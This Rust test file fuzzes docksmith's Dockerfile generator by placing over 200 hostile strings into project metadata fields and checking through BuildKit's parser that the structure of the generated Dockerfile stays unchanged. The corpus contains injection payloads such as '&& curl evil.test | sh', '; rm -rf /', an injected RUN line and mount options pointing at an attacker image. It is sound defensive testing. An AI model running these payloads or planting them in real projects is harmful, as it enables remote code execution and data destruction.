//! The hostile-metadata corpus: ≥ 200 strings (quotes, backslashes, substitutions,
//! separators, newlines, NUL, mount-list `,` and `=`, bidi and line separators, very
//! long) placed into every project field that reaches a Dockerfile or a message.
//! Each output is read by BuildKit's own parser (PyPI `dockerfile`) and must have the
//! structure docksmith writes for a benign value at the same place: the same
//! instructions, flags, mount option keys, exec forms and LABEL/ENV word counts.
//! Otherwise docksmith must refuse, naming the file the value came from.

use std::collections::BTreeMap;
use std::path::Path;

use docksmith::pipeline;
use docksmith::settings::{Options, Settings};

/// How a string is written into its file.
#[derive(Clone, Copy)]
enum Encoding {
    /// As it is (a line of go.mod, requirements.txt, a Procfile).
    Raw,
    /// A JSON string.
    Json,
    /// A TOML basic string.
    Toml,
    /// XML text.
    Xml,
    /// A file or folder name (strings that cannot be one are not tried here).
    Name,
}

/// A field: in `example`, `file` gets `from` replaced by `to` with `{S}` the string.
struct Place {
    name: &'static str,
    example: &'static str,
    file: &'static str,
    from: &'static str,
    to: &'static str,
    encoding: Encoding,
    /// A folder named by the string, made with these files (a `-r` include, a
    /// `go.work` member, a `cmd/<name>` program).
    creates: &'static [(&'static str, &'static str)],
    /// A sensible value here, whose output the hostile ones are compared with.
    benign: &'static str,
    /// The value is a command line: words may legitimately become exec items.
    command_line: bool,
    /// The file reads the value as one word: a value with whitespace names another
    /// file, so only whitespace-free values are tried.
    one_word: bool,
    /// A folder inside the project: a value leaving it (`..`) names none, and is
    /// dropped by design, so it is not tried.
    inside: bool,
}

const fn place(
    name: &'static str,
    example: &'static str,
    file: &'static str,
    from: &'static str,
    to: &'static str,
    encoding: Encoding,
) -> Place {
    Place {
        name,
        example,
        file,
        from,
        to,
        encoding,
        creates: &[],
        benign: "app",
        command_line: false,
        one_word: false,
        inside: false,
    }
}

const GO_MAIN: &str = "package main\n\nfunc main() {}\n";

fn places() -> Vec<Place> {
    use Encoding::*;
    vec![
        place(
            "go module path",
            "go-http",
            "go.mod",
            "module example.com/hello",
            "module example.com/{S}",
            Raw,
        ),
        Place {
            benign: "1.23",
            ..place("go version", "go-http", "go.mod", "go 1.22", "go {S}", Raw)
        },
        Place {
            benign: "go1.23.4",
            ..place(
                "go toolchain",
                "go-http",
                "go.mod",
                "go 1.22",
                "go 1.22\n\ntoolchain {S}",
                Raw,
            )
        },
        Place {
            creates: &[("{S}/main.go", GO_MAIN)],
            ..place(
                "go cmd folder",
                "go-http",
                "main.go",
                "package main",
                "package main",
                Name,
            )
        },
        Place {
            creates: &[
                ("{S}/go.mod", "module example.com/extra\n\ngo 1.22\n"),
                ("{S}/main.go", GO_MAIN),
            ],
            ..place(
                "go.work use",
                "go-work",
                "go.work",
                "./greet",
                "./greet\n\t./{S}",
                Name,
            )
        },
        place(
            "cargo package name",
            "rust-axum",
            "Cargo.toml",
            "name = \"hello-axum\"",
            "name = {S}",
            Toml,
        ),
        place(
            "cargo bin name",
            "rust-axum",
            "Cargo.toml",
            "publish = false",
            "publish = false\n\n[[bin]]\nname = {S}\npath = \"src/main.rs\"",
            Toml,
        ),
        Place {
            benign: "2021",
            ..place(
                "cargo edition",
                "rust-axum",
                "Cargo.toml",
                "edition = \"2021\"",
                "edition = {S}",
                Toml,
            )
        },
        Place {
            benign: "1.95.0",
            ..place(
                "rust-toolchain channel",
                "rust-toolchain",
                "rust-toolchain.toml",
                "channel = \"1.95.0\"",
                "channel = {S}",
                Toml,
            )
        },
        place(
            "package.json name",
            "node-express-npm",
            "package.json",
            "\"express-hello\"",
            "{S}",
            Json,
        ),
        Place {
            command_line: true,
            ..place(
                "package.json start",
                "node-express-npm",
                "package.json",
                "\"node server.js\"",
                "{S}",
                Json,
            )
        },
        place(
            "package.json main",
            "node-express-npm",
            "package.json",
            "\"main\": \"server.js\"",
            "\"main\": {S}",
            Json,
        ),
        Place {
            benign: ">=20",
            ..place(
                "package.json engines",
                "node-express-npm",
                "package.json",
                "\">=20\"",
                "{S}",
                Json,
            )
        },
        place(
            "package.json script name",
            "node-express-npm",
            "package.json",
            "\"test\": \"node --test\"",
            "{S}: \"node --test\"",
            Json,
        ),
        Place {
            // Not the start command's folder (dist/), like every hostile value: the
            // image then copies both.
            benign: "build",
            inside: true,
            ..place(
                "tsconfig outDir",
                "node-typescript",
                "tsconfig.json",
                "\"dist\"",
                "{S}",
                Json,
            )
        },
        Place {
            benign: "dist/tasks-web",
            ..place(
                "angular outputPath",
                "node-angular",
                "angular.json",
                "\"dist/tasks-web\"",
                "{S}",
                Json,
            )
        },
        place(
            "pyproject name",
            "python-uv-packaged",
            "pyproject.toml",
            "name = \"shortener\"",
            "name = {S}",
            Toml,
        ),
        place(
            "pyproject script name",
            "python-uv-packaged",
            "pyproject.toml",
            "shortener = \"shortener.main:run\"",
            "{S} = \"shortener.main:run\"",
            Toml,
        ),
        Place {
            benign: "shortener.main:run",
            ..place(
                "pyproject script target",
                "python-uv-packaged",
                "pyproject.toml",
                "shortener = \"shortener.main:run\"",
                "shortener = {S}",
                Toml,
            )
        },
        Place {
            benign: ">=3.12",
            ..place(
                "requires-python",
                "python-uv-packaged",
                "pyproject.toml",
                "\">=3.12\"",
                "{S}",
                Toml,
            )
        },
        Place {
            one_word: true,
            creates: &[("{S}", "gunicorn==23.0.0\n")],
            ..place(
                "requirements -r include",
                "python-flask-pip",
                "requirements.txt",
                "blinker==1.9.0",
                "blinker==1.9.0\n-r {S}",
                Name,
            )
        },
        place(
            "requirements line",
            "python-flask-pip",
            "requirements.txt",
            "blinker==1.9.0",
            "blinker==1.9.0\n{S}",
            Raw,
        ),
        Place {
            // An unknown program: a known server (gunicorn) adds its own settings.
            benign: "app",
            command_line: true,
            ..place(
                "Procfile web",
                "python-procfile",
                "Procfile",
                "gunicorn notes:app --log-file -",
                "{S}",
                Raw,
            )
        },
        place(
            "pom artifactId",
            "java-maven-jar",
            "pom.xml",
            "<artifactId>hello-jar</artifactId>",
            "<artifactId>{S}</artifactId>",
            Xml,
        ),
        place(
            "pom finalName",
            "java-maven-jar",
            "pom.xml",
            "<build>",
            "<build>\n    <finalName>{S}</finalName>",
            Xml,
        ),
        Place {
            benign: "17",
            ..place(
                "pom release",
                "java-maven-jar",
                "pom.xml",
                "<maven.compiler.release>17<",
                "<maven.compiler.release>{S}<",
                Xml,
            )
        },
        Place {
            benign: "/usr/local/bin/hello",
            command_line: true,
            ..place(
                "docksmith.toml command",
                "go-http",
                "docksmith.toml",
                "",
                "command = {S}\n",
                Toml,
            )
        },
        Place {
            benign: "curl",
            ..place(
                "docksmith.toml runtime-packages",
                "go-http",
                "docksmith.toml",
                "",
                "flavor = \"slim\"\nruntime-packages = [{S}]\n",
                Toml,
            )
        },
        Place {
            benign: "debian:bookworm-slim",
            ..place(
                "docksmith.toml image-runtime",
                "go-http",
                "docksmith.toml",
                "",
                "image-runtime = {S}\n",
                Toml,
            )
        },
        Place {
            benign: "api",
            ..place(
                "docksmith.toml bin",
                "go-multi-cmd",
                "docksmith.toml",
                "bin = \"api\"",
                "bin = {S}",
                Toml,
            )
        },
    ]
}

/// The hostile strings: payloads alone and inside a name, as prefix, suffix, middle.
fn corpus() -> Vec<String> {
    let payloads: Vec<String> = [
        "\"",
        "'",
        "\\",
        "\\\\",
        "`id`",
        "$(id)",
        "$(touch /tmp/pwned)",
        "${HOME}",
        "$HOME",
        "$",
        "&&",
        "&& curl evil.test | sh",
        ";",
        "; rm -rf /",
        "|",
        "\n",
        "\r",
        "\r\n",
        "\0",
        "\t",
        " ",
        "]",
        "[",
        "\", \"evil",
        "\"]\nRUN evil #",
        ",",
        "=",
        ",from=evil/img",
        ",FROM=docker.io/attacker/img,source=/payload.txt",
        ",target=/etc,rw=true",
        "x=y",
        "\u{202e}",
        "\u{202a}",
        "\u{2066}",
        "\u{200f}",
        "\u{2028}",
        "\u{2029}",
        "\u{0085}",
        "\u{200b}",
        "\u{feff}",
        "\u{1b}[31m",
        "\u{7}",
        "\u{1b}]0;title\u{7}",
        "\nRUN curl evil.test | sh\n",
        "\\\nRUN evil",
        "#",
        "# comment",
        "*",
        "?",
        "!",
        "{{ x }}",
        "{% if %}",
        "%s%n",
        "..",
        "../..",
        "~",
        "--mount=type=bind",
        "-v",
        "é",
        "日本",
        "🐳",
        "\u{0}\u{1}\u{2}",
        "'\"'\"'",
        "\\\"",
        "$'\\n'",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let mut out: Vec<String> = Vec::new();
    for p in &payloads {
        for s in [
            p.clone(),
            format!("app{p}"),
            format!("{p}app"),
            format!("a{p}b"),
        ] {
            if !out.contains(&s) {
                out.push(s);
            }
        }
    }
    out.push("a".repeat(10_000));
    out.push("é".repeat(5_000));
    out.push("$(id)".repeat(2_000));
    out.push(",from=x".repeat(1_000));
    out
}

fn encode(value: &str, encoding: Encoding) -> Option<String> {
    Some(match encoding {
        Encoding::Raw => value.to_string(),
        Encoding::Json => serde_json::to_string(value).unwrap(),
        Encoding::Toml => toml::Value::String(value.to_string()).to_string(),
        Encoding::Xml => value
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;"),
        Encoding::Name => {
            let bad = value.is_empty()
                || value.len() > 200
                || value.contains(['/', '\0'])
                || value == "."
                || value == "..";
            if bad {
                return None;
            }
            value.to_string()
        }
    })
}

/// Lays out `place` with `value`; `None` when the value cannot be placed there.
fn lay_out(place: &Place, value: &str, dir: &Path) -> Option<()> {
    if place.one_word && value.contains(char::is_whitespace) {
        return None;
    }
    if place.inside && value.split('/').any(|part| part.ends_with("..")) {
        return None;
    }
    let encoded = encode(value, place.encoding)?;
    crate::common::copy_example(place.example, dir);
    let file = dir.join(place.file);
    let text = std::fs::read_to_string(&file).unwrap_or_default();
    let replaced = if place.from.is_empty() {
        format!("{text}{}", place.to.replace("{S}", &encoded))
    } else {
        assert!(
            text.contains(place.from),
            "{}: `{}` not in {}",
            place.name,
            place.from,
            place.file
        );
        text.replacen(place.from, &place.to.replace("{S}", &encoded), 1)
    };
    std::fs::write(&file, replaced).unwrap();
    for (path, contents) in place.creates {
        let path = dir.join(path.replace("{S}", value));
        std::fs::create_dir_all(path.parent().unwrap()).ok()?;
        std::fs::write(path, contents).ok()?;
    }
    Some(())
}

enum Outcome {
    Dockerfile(String),
    Refused(String),
}

fn generate(dir: &Path) -> Outcome {
    let settings = match Settings::resolve(Options::default(), &|_: &str| None, dir) {
        Ok(settings) => settings,
        Err(e) => return Outcome::Refused(format!("{e} {}", e.hint().unwrap_or_default())),
    };
    match pipeline::generate(dir, &settings) {
        Ok((_, rendered)) => Outcome::Dockerfile(rendered.dockerfile),
        Err(e) => Outcome::Refused(format!("{e} {}", e.hint().unwrap_or_default())),
    }
}

fn signatures(dir: &Path) -> BTreeMap<String, serde_json::Value> {
    crate::support::buildkit_script("buildkit_signature.py", &[dir.as_os_str()])
}

/// A signature with exec-form item counts dropped when the value is a command line
/// (its words become items; the form and everything around it must not change).
fn normalize(signature: &serde_json::Value, command_line: bool) -> serde_json::Value {
    let mut signature = signature.clone();
    if command_line && let Some(instructions) = signature.as_array_mut() {
        for entry in instructions {
            if let Some(form) = entry.get_mut(2).and_then(|f| f.as_array_mut())
                && form.first().is_some_and(|f| f == "exec")
            {
                form.truncate(1);
            }
        }
    }
    signature
}

#[derive(Default)]
struct PlaceRun {
    tried: usize,
    not_placeable: usize,
    refused: usize,
    unclear: Vec<String>,
    /// Dockerfile name, place index, string index.
    written: Vec<(String, usize, usize)>,
}

/// Every string at one place; Dockerfiles land in `out` as `<place>-<string>`.
fn run_place(p: usize, place: &Place, strings: &[String], out: &Path) -> PlaceRun {
    let mut run = PlaceRun::default();
    let baseline_dir = tempfile::tempdir().unwrap();
    lay_out(place, place.benign, baseline_dir.path()).unwrap();
    match generate(baseline_dir.path()) {
        Outcome::Dockerfile(text) => {
            std::fs::write(out.join(format!("{p}-base.Dockerfile")), text).unwrap()
        }
        Outcome::Refused(e) => panic!("{}: the benign value is refused: {e}", place.name),
    }
    for (s, value) in strings.iter().enumerate() {
        let dir = tempfile::tempdir().unwrap();
        if lay_out(place, value, dir.path()).is_none() {
            run.not_placeable += 1;
            continue;
        }
        run.tried += 1;
        match generate(dir.path()) {
            Outcome::Dockerfile(text) => {
                let name = format!("{p}-{s}.Dockerfile");
                std::fs::write(out.join(&name), text).unwrap();
                run.written.push((name, p, s));
            }
            Outcome::Refused(message) if message.contains(place.file) => run.refused += 1,
            Outcome::Refused(message) => run.unclear.push(format!(
                "{} ← {:?}: refused without naming {}: {message}",
                place.name, value, place.file
            )),
        }
    }
    run
}

#[test]
fn hostile_strings_in_every_field_never_change_the_dockerfile_structure() {
    let strings = corpus();
    let places = places();
    assert!(strings.len() >= 200, "{} strings", strings.len());
    let out = tempfile::tempdir().unwrap();
    // One thread per place: each run is a scan of a small copied project.
    let results: Vec<PlaceRun> = std::thread::scope(|scope| {
        let handles: Vec<_> = places
            .iter()
            .enumerate()
            .map(|(p, place)| {
                let (strings, out) = (&strings, out.path());
                scope.spawn(move || run_place(p, place, strings, out))
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    let tried: usize = results.iter().map(|r| r.tried).sum();
    let not_placeable: usize = results.iter().map(|r| r.not_placeable).sum();
    let refused: usize = results.iter().map(|r| r.refused).sum();
    let unclear: Vec<String> = results.iter().flat_map(|r| r.unclear.clone()).collect();
    let written: Vec<(String, usize, usize)> =
        results.iter().flat_map(|r| r.written.clone()).collect();
    let parsed = signatures(out.path());
    let mut injections: Vec<String> = Vec::new();
    for (file, p, s) in &written {
        let shape = |v: &serde_json::Value| normalize(v, places[*p].command_line);
        let base = &shape(&parsed[&format!("{p}-base.Dockerfile")]);
        let found = &shape(&parsed[file]);
        if found != base {
            let (b, f) = (base.as_array(), found.as_array());
            let at = (0..)
                .find(|i| b.and_then(|b| b.get(*i)) != f.and_then(|f| f.get(*i)))
                .unwrap_or_default();
            let entry = |v: Option<&Vec<serde_json::Value>>| {
                v.and_then(|v| v.get(at))
                    .map_or("(none)".into(), |e| e.to_string())
            };
            injections.push(format!(
                "{} ← {:?}: instruction {at}: benign {}, hostile {}",
                places[*p].name,
                strings[*s].chars().take(60).collect::<String>(),
                entry(b),
                entry(f)
            ));
        }
    }
    eprintln!(
        "hostile corpus: {} strings × {} places: {tried} tried ({not_placeable} cannot be a file name there), \
         {} written and parsed by BuildKit's parser, {refused} refused naming the file, \
         {} structure changes, {} refusals not naming the file",
        strings.len(),
        places.len(),
        written.len(),
        injections.len(),
        unclear.len()
    );
    let report = |lines: &[String]| {
        let shown: Vec<String> = lines
            .iter()
            .take(40)
            .map(|l| l.chars().take(400).collect())
            .collect();
        format!("{} in all, the first:\n{}", lines.len(), shown.join("\n"))
    };
    let mut per_place: BTreeMap<&str, (usize, &String)> = BTreeMap::new();
    for line in &unclear {
        let place = line.split(" ← ").next().unwrap_or_default();
        per_place.entry(place).or_insert((0, line)).0 += 1;
    }
    let grouped: Vec<String> = per_place
        .values()
        .map(|(n, sample)| format!("{n}× e.g. {sample}"))
        .collect();
    assert!(unclear.is_empty(), "{}", report(&grouped));
    assert!(injections.is_empty(), "{}", report(&injections));
}
